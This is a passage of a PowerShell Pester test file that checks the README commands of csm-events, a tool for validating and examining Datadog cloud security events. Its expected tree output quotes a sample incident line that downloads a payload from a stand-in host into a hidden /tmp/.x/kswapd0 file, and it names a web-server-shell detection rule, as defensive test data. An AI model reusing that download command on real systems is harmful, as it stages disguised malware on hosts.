                ([DateTimeOffset]::UtcNow - $from).TotalMinutes | Should -BeGreaterThan 355
                ([DateTimeOffset]::UtcNow - $from).TotalMinutes | Should -BeLessThan 365
                $Run.Objects | ForEach-Object { $_ | Should -BeOfType ([CsmEvents.ProcessTree.ProcessNode]); $_.Host | Should -BeExactly 'web-01' }
                ($Run.Objects | Where-Object { $_.Name -eq 'kswapd0' }).EventCount | Should -Be 6
            }
        }
        "Get-CsmEvent ./samples/windows/single-event.json | ForEach-Object { `$_.Title = 'reviewed'; `$_ } |`n    ConvertFrom-CsmEvent | Set-Content ./reviewed.jsonl" = @{
            Test = {
                param($Run)
                $written = @(Get-Content -LiteralPath (Join-Path $Run.Folder 'reviewed.jsonl') -Encoding UTF8)
                $written.Count | Should -Be 1
                $expected = [System.Text.Json.Nodes.JsonNode]::Parse([System.IO.File]::ReadAllText((Join-Path $samples 'windows/single-event.json')))
                $expected['title'] = [System.Text.Json.Nodes.JsonValue]::Create('reviewed')
                # Lossless: the same JSON values, only the title changed.
                [System.Text.Json.Nodes.JsonNode]::DeepEquals($expected, [System.Text.Json.Nodes.JsonNode]::Parse($written[0])) | Should -BeTrue
            }
        }
    }

    # What each README shell line claims (README: "Run the main job on the bundled samples", "Command line").
    $shellClaims = [ordered]@{
        'dotnet run --project src/CsmEvents.Cli -c Release -- get samples --recurse' = @{
            Test = {
                param($Run)
                $Run.ExitCode | Should -Be 0
                # Every sample file, each event one line of compact JSON.
                $Run.Lines.Count | Should -Be @(Get-CsmEvent -LiteralPath $samples -Recurse).Count
                $Run.Lines.Count | Should -Be 110
                $Run.Lines | ForEach-Object { { $_ | ConvertFrom-Json } | Should -Not -Throw; $_ | Should -Not -Match '^\{\s|":\s' }
            }
        }
        'dotnet tool restore && dotnet pwsh ./build.ps1 -Task Test' = @{
            NotRun = 'it is the command that runs this suite'
            Test = {
                # What it restores: PowerShell 7.6.10 as a local tool, and Pester 5.7.1.
                (Get-Content -LiteralPath (Join-Path $script:RepoRoot 'dotnet-tools.json') -Raw | ConvertFrom-Json).tools.powershell.version | Should -Be '7.6.10'
                (Get-Module Pester).Version.ToString() | Should -Be '5.7.1'
            }
        }
        'dotnet tool restore && dotnet pwsh ./build.ps1 -Task Package' = @{
            NotRun = 'build.ps1 -Task Test runs the Package task before this suite'
            Test = {
                # Both release artifacts, where the README says.
                Assert-PackagesBuilt
                $version = (Import-PowerShellDataFile -LiteralPath $script:ModuleManifest).ModuleVersion
                (Get-Content -LiteralPath (Join-Path $script:RepoRoot 'README.md') -Raw) | Should -Match ([regex]::Escape("out/packages/CsmEvents.$version.nupkg (the module) and out/packages/csm-events*.$version.nupkg (the CLI)"))
                @(Get-ChildItem -LiteralPath (Join-Path $script:RepoRoot 'out/packages') -Filter "csm-events*.$version.nupkg").Count | Should -BeGreaterOrEqual 2
            }
        }
        'dotnet tool install -g csm-events' = @{
            NotRun = 'csm-events is not on nuget.org yet and tests have no network; the next line installs the same package from out/packages'
            Test = {
                $project = [xml](Get-Content -LiteralPath (Join-Path $script:RepoRoot 'src/CsmEvents.Cli/CsmEvents.Cli.csproj') -Raw)
                @($project.Project.PropertyGroup.ToolCommandName | Where-Object { $_ }) | Should -Be @('csm-events')
            }
        }
        'dotnet tool install -g csm-events --add-source ./out/packages' = @{
            NotRun = 'it runs below with the two lines after it, as one user would: HOME is a temporary folder, so -g installs there'
            Test = {
                Assert-PackagesBuilt
                $lines = Get-ReadmeBlockFrom -Kind 'sh' -First 'dotnet tool install -g csm-events --add-source ./out/packages' -Count 3
                $userHome = New-TemporaryHome
                try {
                    $start = New-Object System.Diagnostics.ProcessStartInfo 'sh'
                    $start.ArgumentList.Add('-c')
                    # set -e: each line must succeed; the tool folder of the temporary home on PATH, as `dotnet tool
                    # install -g` tells a user to do.
                    $start.ArgumentList.Add("set -e`nexport PATH=`"`$HOME/.dotnet/tools:`$PATH`"`n" + ($lines -join "`n"))
                    $start.WorkingDirectory = $script:RepoRoot
                    $start.RedirectStandardOutput = $true
                    $start.RedirectStandardError = $true
                    $start.UseShellExecute = $false
                    $start.Environment['HOME'] = $userHome
                    $start.Environment['DOTNET_CLI_HOME'] = $userHome
                    # A package folder of its own, so that a csm-events cached by an earlier run is not used.
                    $start.Environment['NUGET_PACKAGES'] = Join-Path $userHome '.nuget/packages'
                    $start.Environment['DOTNET_NOLOGO'] = '1'
                    $process = [System.Diagnostics.Process]::Start($start)
                    $errorsRead = $process.StandardError.ReadToEndAsync()
                    $output = @($process.StandardOutput.ReadToEnd() -split "`n")
                    $process.WaitForExit()
                    $process.ExitCode | Should -Be 0 -Because ($errorsRead.Result + ($output -join "`n"))
                    Test-Path -LiteralPath (Join-Path $userHome '.dotnet/tools/csm-events') | Should -BeTrue
                    # `csm-events get samples --recurse` wrote the 110 sample events, as the built CLI does.
                    $events = @($output | Where-Object { $_.StartsWith('{') })
                    $events.Count | Should -Be 110
                    $built = @(& (Join-Path $cliFolder 'csm-events') get (Join-Path $script:RepoRoot 'samples') --recurse)
                    $events | Should -Be $built
                }
                finally { Remove-Item -LiteralPath $userHome -Recurse -Force -ErrorAction SilentlyContinue }
            }
        }
        'csm-events get samples --recurse' = @{
            NotRun = 'it runs with the dotnet tool install -g line, after the install, in one shell'
            Test = { (Get-ReadmeBlockFrom -Kind 'sh' -First 'dotnet tool install -g csm-events --add-source ./out/packages' -Count 2)[1] | Should -BeExactly 'csm-events get samples --recurse' }
        }
        'dotnet tool update -g csm-events --add-source ./out/packages' = @{
            NotRun = 'it runs with the dotnet tool install -g line, after the install, in one shell'
            Test = { (Get-ReadmeBlockFrom -Kind 'sh' -First 'dotnet tool install -g csm-events --add-source ./out/packages' -Count 3)[2] | Should -BeExactly 'dotnet tool update -g csm-events --add-source ./out/packages' }
        }
        'dotnet publish src/CsmEvents.Cli -c Release -r linux-x64 -o out/csm-events-linux-x64' = @{
            NotRun = 'build.ps1 -Task Test publishes the native CLI into this folder before the suites run (the next line runs it)'
            Test = {
                $project = [xml](Get-Content -LiteralPath (Join-Path $script:RepoRoot 'src/CsmEvents.Cli/CsmEvents.Cli.csproj') -Raw)
                @($project.Project.PropertyGroup.PublishAot | Where-Object { $_ }) | Should -Be @('true')
            }
        }
        'out/csm-events-linux-x64/csm-events get samples --recurse' = @{
            RunsItself = $true
            Test = {
                $native = Join-Path $script:RepoRoot 'out/csm-events-linux-x64/csm-events'
                if (-not (Test-Path -LiteralPath $native)) {
                    if ($env:CSMEVENTS_REQUIRE_PACKAGES) { throw "there is no $native (build.ps1 -Task Test publishes it)" }
                    Set-ItResult -Skipped -Because "there is no ${native}: build.ps1 -Task Test publishes it"
                }
                Push-Location -LiteralPath $script:RepoRoot
                try { $lines = @(& $native get samples --recurse) }
                finally { Pop-Location }
                $LASTEXITCODE | Should -Be 0
                # One native executable (no managed assembly beside it), writing what the JIT build writes.
                @(Get-ChildItem -LiteralPath (Split-Path $native) -Filter '*.dll').Count | Should -Be 0
                $lines.Count | Should -Be 110
                $lines | Should -Be @(& (Join-Path $cliFolder 'csm-events') get (Join-Path $script:RepoRoot 'samples') --recurse)
            }
        }
        "csm-events get samples --recurse --event-type 'exec' --platform windows" = @{
            Test = {
                param($Run)
                $Run.ExitCode | Should -Be 0
                $Run.Lines.Count | Should -Be 8
                $Run.Lines | ForEach-Object { $e = $_ | ConvertFrom-Json; $e.evt.name | Should -Be 'exec'; $e.agent.os | Should -Be 'windows' }
            }
        }
        'csm-events get samples/linux/incident-web01.jsonl --after 2025-06-03T09:41:00Z --outcome Refused' = @{
            Test = {
                param($Run)
                $Run.ExitCode | Should -Be 0
                $after = [DateTimeOffset]::Parse('2025-06-03T09:41:00Z')
                $expected = @(Get-Content -LiteralPath (Join-Path $samples 'linux/incident-web01.jsonl') -Encoding UTF8 | Where-Object {
                        $e = $_ | ConvertFrom-Json -DateKind String
                        $e.evt.outcome -eq 'Refused' -and [DateTimeOffset]::Parse($e.date) -ge $after
                    })
                $expected.Count | Should -Be 1
                $Run.Lines | Should -Be $expected
            }
        }
        'cat samples/windows/events-array.json | csm-events get' = @{
            Test = {
                param($Run)
                $Run.ExitCode | Should -Be 0
                $Run.Lines | Should -Be @(Get-CsmEvent -LiteralPath (Join-Path $samples 'windows/events-array.json') | ConvertFrom-CsmEvent)
                $Run.Lines.Count | Should -Be 4
            }
        }
        'csm-events test samples/windows --recurse --json' = @{
            Test = {
                param($Run)
                $Run.ExitCode | Should -Be 0
                $Run.Lines.Count | Should -Be @(Get-CsmEvent -LiteralPath (Join-Path $samples 'windows') -Recurse).Count
                $Run.Lines | ForEach-Object { $r = $_ | ConvertFrom-Json; $r.valid | Should -BeTrue; $r.schema | Should -Be 'windows'; $r.source | Should -Match '^samples/windows/.+:\d+$' }
            }
        }
        'csm-events schemas --fetch 7.64.3,7.68.0' = @{
            Test = {
                param($Run)
                $Run.ExitCode | Should -Be 0
                # Both published schemas of each version, into the cache, one line each.
                $Run.Cached | Should -Be @('7.64.3/backend_linux.schema.json', '7.64.3/backend_windows.schema.json', '7.68.0/backend_linux.schema.json', '7.68.0/backend_windows.schema.json')
                @($Run.Lines | ForEach-Object { ($_ -split ' ')[1] }) | Should -Be @('backend_linux@7.64.3', 'backend_windows@7.64.3', 'backend_linux@7.68.0', 'backend_windows@7.68.0')
                @($Run.MirrorRequests | Sort-Object) | Should -Be @(
                    '/7.64.3/docs/cloud-workload-security/backend_linux.schema.json', '/7.64.3/docs/cloud-workload-security/backend_windows.schema.json',
                    '/7.68.0/docs/cloud-workload-security/backend_linux.schema.json', '/7.68.0/docs/cloud-workload-security/backend_windows.schema.json')
            }
        }
        'csm-events test --ignore-additional-properties samples/linux --recurse' = @{
            Fetch = @('7.64.3', '7.68.0')
            Test = {
                param($Run)
                $Run.ExitCode | Should -Be 0
                $count = @(Get-CsmEvent -LiteralPath (Join-Path $samples 'linux') -Recurse).Count
                $count | Should -Be 65
                $Run.Lines | Should -Be @("$count events: $count valid, 0 invalid")
            }
        }
        'csm-events test samples/linux --recurse --summary' = @{
            Fetch = @('7.64.3', '7.68.0')
            Test = {
                param($Run)
                # Strict validation: the newer agent's fields are drift, so the exit code says "invalid".
                $Run.ExitCode | Should -Be 1
                $Run.Lines[0] | Should -BeExactly '65 events read: 62 valid, 3 invalid, 0 not validated, 0 unreadable'
                $Run.Lines[1] | Should -BeExactly '7 drift groups'
                $Run.Lines[2] | Should -Match '^EVENTS\s+SHARE\s+SCHEMA\s+KEYWORD\s+PATH$'
                $Run.Lines[3] | Should -Match '^\s+2\s+3\.1%\s+backend_linux\s+additionalProperties\s+/process/is_parent_missing$'
            }
        }
        "csm-events test --query 'source:runtime-security-agent' --from now-1h --summary --baseline drift.json --junit report.xml" = @{
            Fetch = @('7.64.3', '7.68.0')
            Runs = 2
            Prepare = {
                param($Folder, $Line, $Environment)
                # "create it once ... with the same line plus --update-baseline": the first run of the job.
                $first = Invoke-Sh -Text ($Line + ' --update-baseline') -Folder $Folder -Environment $Environment
                $first.ExitCode | Should -Be 0 -Because $first.Errors
                $Line
            }
            Test = {
                param($Run)
                # Every problem of the hour is a known group: exit code 0, the JUnit report's cases all pass.
                $Run.ExitCode | Should -Be 0
                $Run.Requests.Count | Should -Be 4 -Because 'each of the two runs reads the sample page and the empty last page'
                $Run.Requests[2] | Should -Match ([regex]::Escape('source:runtime-security-agent'))
                $Run.Requests[2] | Should -Match '"from":"now-1h"'
                $baseline = $Run.Files['drift.json'] | ConvertFrom-Json
                $baseline | Should -Not -BeNullOrEmpty
                $report = [xml]$Run.Files['report.xml']
                @($report.SelectNodes('//testsuite')).Count | Should -BeGreaterThan 0
                @($report.SelectNodes('//testcase')).Count | Should -BeGreaterThan 0
                @($report.SelectNodes('//testcase/failure')).Count | Should -Be 0
            }
        }
        "#!/bin/sh" = @{
            Fetch = @('7.64.3', '7.68.0')
            Runs = 2
            Prepare = {
                param($Folder, $Script, $Environment)
                # Stand-ins: the keys file holds placeholder keys, the job's folder is a folder of the test, and the
                # searches go to the loopback Datadog stub (the exec line is the script's last).
                $keys = Join-Path $Folder 'keys.env'
                [System.IO.File]::WriteAllText($keys, "export DD_API_KEY=placeholder-key DD_APP_KEY=placeholder-key`n")
                $job = Join-Path $Folder 'job'
                $null = New-Item -ItemType Directory -Path $job
                $Script = $Script.Replace('/etc/csm-drift/keys.env', $keys).Replace('/var/lib/csm-drift', $job).TrimEnd() + ' --api-url ' + $Environment['CSMEVENTS_TEST_API_URL']
                $path = Join-Path $Folder 'csm-drift'
                [System.IO.File]::WriteAllText($path, $Script + "`n")
                # The baseline of the job's folder, made once as the README says: the same line plus --update-baseline.
                $once = Join-Path $Folder 'csm-drift-update-baseline'
                [System.IO.File]::WriteAllText($once, $Script + " --update-baseline`n")
                $first = Invoke-Sh -Text ("sh '$once'") -Folder $Folder -Environment $Environment
                $first.ExitCode | Should -Be 0 -Because $first.Errors
                Test-Path -LiteralPath (Join-Path $job 'drift.json') | Should -BeTrue
                "sh '$path'"
            }
            Test = {
                param($Run)
                $Run.ExitCode | Should -Be 0 -Because 'exit code 0: known drift only'
                $Run.Requests.Count | Should -Be 4 -Because 'each of the two runs reads the sample page and the empty last page'
                # The summary on standard output (cron mails it), the JUnit report in the job's folder.
                $Run.Lines[0] | Should -Match '^\d+ events read: '
                ([xml]$Run.Files['job/report.xml']).SelectNodes('//testcase/failure').Count | Should -Be 0
            }
        }
        'csm-events report samples --recurse -o report.html' = @{
            Test = {
                param($Run)
                $Run.ExitCode | Should -Be 0
                $Run.Lines.Count | Should -Be 0
                Assert-ReportPage -Html $Run.Files['report.html'] -Events 110 -Inputs 9 -Hosts 9
            }
        }
        "csm-events report samples/windows --recurse --validate --title 'ws-01' -o ws01.html" = @{
            Test = {
                param($Run)
                $Run.ExitCode | Should -Be 0
                Assert-ReportPage -Html $Run.Files['ws01.html'] -Events 29 -Inputs 3 -Hosts 3
                $Run.Files['ws01.html'] | Should -Match '<h1>ws-01</h1>'
                $Run.Files['ws01.html'] | Should -Match '<p>Schema: <code>auto</code>\. 29 valid, 0 invalid\.</p>'
            }
        }
        'csm-events get samples/windows/incident-ws01.jsonl --format csv > ws01.csv' = @{
            Test = {
                param($Run)
                $Run.ExitCode | Should -Be 0
                $rows = @($Run.Files['ws01.csv'] | ConvertFrom-Csv)
                $rows.Count | Should -Be 24
                $rows[0].time_utc | Should -BeExactly '2025-06-03T08:47:19.2310452Z'
                $rows[0].source | Should -BeExactly 'samples/windows/incident-ws01.jsonl:1'
            }
        }
        "DD_API_KEY=... DD_APP_KEY=... csm-events report --query 'host:web-01' --from now-6h -o web01.html" = @{
            Test = {
                param($Run)
                $Run.ExitCode | Should -Be 0
                $Run.Requests[0] | Should -Match ([regex]::Escape('host:web-01'))
                $Run.Requests[0] | Should -Match '"from":"now-6h"'
                Assert-ReportPage -Html $Run.Files['web01.html'] -Events 8 -Inputs 1 -Hosts 1
            }
        }
        'csm-events tree samples/linux/incident-web01.jsonl --name curl --ancestry' = @{
            Test = {
                param($Run)
                $Run.ExitCode | Should -Be 0
                $Run.Lines[0] | Should -BeExactly 'host: samples/linux/incident-web01.jsonl'
                $Run.Lines[-1] | Should -BeExactly '                  └─ curl (24313) [exec, selected] 5 events: curl -fsSL http://update-cdn.example.net/k -o /tmp/.x/kswapd0'
                $Run.Lines.Count | Should -Be 9
            }
        }
        'csm-events schemas --export windows > windows.schema.json' = @{
            Test = {
                param($Run)
                $Run.ExitCode | Should -Be 0
                $Run.Files['windows.schema.json'].TrimEnd("`n") | Should -BeExactly (Get-CsmSchema windows).Text.TrimEnd("`n")
            }
        }
        "DD_API_KEY=... DD_APP_KEY=... csm-events get --query '@agent.rule_id:shell_spawned_by_webserver' --from now-6h" = @{
            Test = {
                param($Run)
                $Run.ExitCode | Should -Be 0
                $Run.Requests[0] | Should -Match ([regex]::Escape('@agent.rule_id:shell_spawned_by_webserver'))
                $Run.Requests[0] | Should -Match '"from":"now-6h"'
                $logs = @((Get-Content -LiteralPath (Join-Path $samples 'datadog/logs-search-page.json') -Raw | ConvertFrom-Json).data)
                @($Run.Lines | ForEach-Object { ($_ | ConvertFrom-Json).agent.rule_id }) | Should -Be @($logs | ForEach-Object { $_.attributes.attributes.agent.rule_id })
            }
        }
        "DD_API_KEY=... DD_APP_KEY=... csm-events tree --query '@agent.rule_id:shell_spawned_by_webserver' --from now-6h" = @{
            Test = {
                param($Run)
                $Run.ExitCode | Should -Be 0
                $Run.Requests[0] | Should -Match ([regex]::Escape('@agent.rule_id:shell_spawned_by_webserver'))
                # The processes of the page's events, in the tree of the Datadog host.
                $Run.Lines[0] | Should -BeExactly 'host: web-01'
                $Run.Lines[-1] | Should -BeExactly '               └─ kswapd0 (24311) [exec] 6 events: /tmp/.x/kswapd0'
                $Run.Lines.Count | Should -Be 10
            }
        }
    }

    function Invoke-Claim {
        param($Claims, [string] $Command, [string] $Name, [string] $Kind)
        $claim = $Claims[$Name]
        if ($null -eq $claim) {
            throw "README.md has a $Kind line this test does not know; add what it claims to Readme.Tests.ps1: $Name"
        }
        if (($claim.Fetch -or (Test-SchemaFetch $Command)) -and -not (Test-SharedSchemaFolder)) {
            Set-ItResult -Skipped -Because "it fetches Datadog's published schemas, served in tests from ../shared/datadog-agent-schemas, which is absent"
            return
        }
        if ($claim.NotRun -or $claim.RunsItself) {
            & $claim.Test $null $Command
            return
        }
        if ($claim.NeedsLinuxSchema -and -not (Test-SharedSchemaFolder)) {
            Set-ItResult -Skipped -Because "it needs Datadog's backend_linux.schema.json, served from ../shared/datadog-agent-schemas, which is absent"
            return
        }
        if ($Kind -eq 'shell') {
            $runs = 1
            if ($claim.Runs) { $runs = $claim.Runs }
            $run = Invoke-ShellLine -Line $Command -WithLinuxSchema:([bool] $claim.NeedsLinuxSchema) -Fetch $claim.Fetch -Runs $runs -Prepare $claim.Prepare
            $run.Errors | Should -BeNullOrEmpty -Because "the line writes nothing to standard error: $Command"
            & $claim.Test $run $Command
            return
        }
        $run = Invoke-ReadmeLine -Command $Command -WithLinuxSchema:([bool] $claim.NeedsLinuxSchema) -Fetch $claim.Fetch
        try {
            $run.Errors.Count | Should -Be 0 -Because "the line writes no error: $Command"
            & $claim.Test $run $Command
        }
        finally { Close-ExampleSession $run.Session }
    }
}

Describe 'README PowerShell line: <Name>' -ForEach $powershellLines {
    It 'does what its comment says' {
        if ($PSVersionTable.PSEdition -eq 'Desktop') {
            Set-ItResult -Skipped -Because 'README lines are checked in PowerShell 7, whose output they describe'
            return
        }
        Invoke-Claim -Claims $powershellClaims -Command $Command -Name $Name -Kind 'PowerShell'
    }
}

Describe 'README shell line: <Name>' -ForEach $shellLines {
    It 'does what the README says' {
        if ($IsWindows -or $PSVersionTable.PSEdition -eq 'Desktop') {
            Set-ItResult -Skipped -Because "the README's command lines are POSIX shell lines (cat, VAR=value command, >); they run where sh is"
            return
        }
        if (-not (Test-Path -LiteralPath (Join-Path $cliFolder 'csm-events'))) {
            throw "csm-events is not built in $cliFolder; ./build.ps1 -Task Test builds it (dotnet build src/CsmEvents.Cli -c Release)"
        }
        Invoke-Claim -Claims $shellClaims -Command $Command -Name $Name -Kind 'shell'
    }
}

Describe 'README and this test agree' {
    It 'knows no line the README no longer has' {
        $readme = @(Get-ReadmeCommand | ForEach-Object { $_.Name })
        @($powershellClaims.Keys + $shellClaims.Keys | Where-Object { $readme -notcontains $_ }) | Should -BeNullOrEmpty -Because 'every claim checked here is a line of README.md'
    }
}
